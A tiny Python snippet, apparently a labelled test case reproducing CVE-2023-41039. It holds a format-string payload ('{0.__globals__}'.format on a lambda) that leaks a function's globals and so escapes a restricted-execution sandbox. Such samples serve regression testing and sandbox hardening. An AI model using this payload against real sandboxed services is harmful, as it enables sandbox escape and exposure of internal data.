# aim: the globals of the API through a format string
# kind: leak
# source: CVE-2023-41039
return 'BROKEN' + '{0.__globals__}'.format(lambda: 1)
